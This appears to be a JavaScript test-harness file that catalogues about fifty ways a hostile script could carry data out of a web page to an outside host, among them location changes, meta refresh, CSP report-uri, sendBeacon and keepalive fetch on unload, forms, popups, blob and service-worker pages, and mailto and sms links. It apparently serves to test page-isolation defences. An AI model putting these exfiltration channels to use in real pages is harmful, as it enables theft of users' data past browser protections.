// Every way in which a hostile script could send data out by leaving the page, and the list of all ways.
const leaves = {
  ...each("location-", ["assign", "replace"], (it, u) => location[it](u)),
  "location-data": (u) => location.assign(data("text/html", page(u))),
  "location-blob": (u) => location.assign(blob(page(u), "text/html")),
  "location-script": (u) => location.assign(`javascript:${sent(u)}`),
  "navigate": (u) => navigation.navigate(u).finished,
  "open-self": (u) => open(u, "_self"),
  "window-name": (u) => { window.name = word; location.assign(u); },
  "meta-refresh": (u) => head("meta", { "http-equiv": "refresh", content: `0;url=${u}` }),
  "meta-report": (u) => {
    head("meta", { "http-equiv": "content-security-policy", content: `img-src 'none'; report-uri ${u}` });
    picture("/icons/ebb.svg?refused");
  },
  "base": (u) => { head("base", { href: u }); put("img", { src: word }); },
  "history": (u) => { history.pushState(0, "", `/${word}`); picture(u); },
  "document-write": (u) => { document.open(); document.write(html(image(u))); document.close(); },
  "frameset": (u) => { put("frame", { src: u }, document.body = document.createElement("frameset")); },
  "beacon-on-leaving": (u) => going(() => navigator.sendBeacon(u, word)),
  "fetch-on-leaving": (u) => going(() => fetch(u, { keepalive: true, mode: "no-cors" }).catch(() => {})),
  "link": (u) => click({ href: u }),
  "link-blank": (u) => click({ href: u, target: "_blank" }),
  "link-download": (u) => click({ href: u, download: word }),
  "link-area": (u) => put("area", { href: u }, put("map")).click(),
  "link-svg": (u) => drawn("a", { href: u }).dispatchEvent(new MouseEvent("click", { bubbles: true })),
  ...each("form-", ["get", "post"], (method, u) => form({ method }, u)),
  "form-blank": (u) => form({ target: "_blank", method: "post" }, u),
  "form-button": (u) => put("button", { formaction: u }, put("form")).click(),
  "open": (u) => open(u),
  "open-noopener": (u) => open(u, "_blank", "noopener"),
  "popup-image": (u) => picture(u, open()),
  "popup-fetch": (u) => open().fetch(u),
  "popup-location": (u) => { open().location = u; },
  "popup-write": (u) => { const it = open(); it.document.write(html(page(u))); it.document.close(); },
  "popup-blob": (u) => open(blob(page(u), "text/html")),
  "popup-blob-xml": (u) => open(blob(`<?xml-stylesheet type="text/css" href="${u}"?><a/>`, "text/xml")),
  "popup-script-address": (u) => open(`javascript:opener.${sent(u)}`),
  "popup-own-missing": (u) => within(open("/no/"), "/no/", u),
  "popup-own-icon": (u) => within(open("/icons/ebb.svg"), "/icons/ebb.svg", u),
  "popup-small": async (u) => picture(u, await documentPictureInPicture.requestWindow()),
  "cache-page": async (u) => {
    await navigator.serviceWorker.register(file("/sw.js")).catch(() => {});
    await navigator.serviceWorker.ready;
    const kept = () => new Response(page(u), { headers: { "Content-Type": "text/html" } });
    for (const it of await caches.keys()) await (await caches.open(it)).put("/es/", kept());
    location.assign("/es/");
  },
  "service-worker-page": async (u) => { await service("page", u); location.assign("/ways-out/page/"); },
  "mail": (u, host) => location.assign(`mailto:x@${host}?body=${word}`),
  "text-message": (u, host) => click({ href: `sms:+15550100?body=${word}%20${host}` }),
};

const ways = (table, more) => Object.entries(table).map(([name, start]) => ({
  name,
  ...more,
  async go(host) {
    try {
      await start(`https://${host}/${word}`, host);
    } catch {}
  },
}));
window.waysOut = [...ways(stays), ...ways(leaves, { leaves: true })];
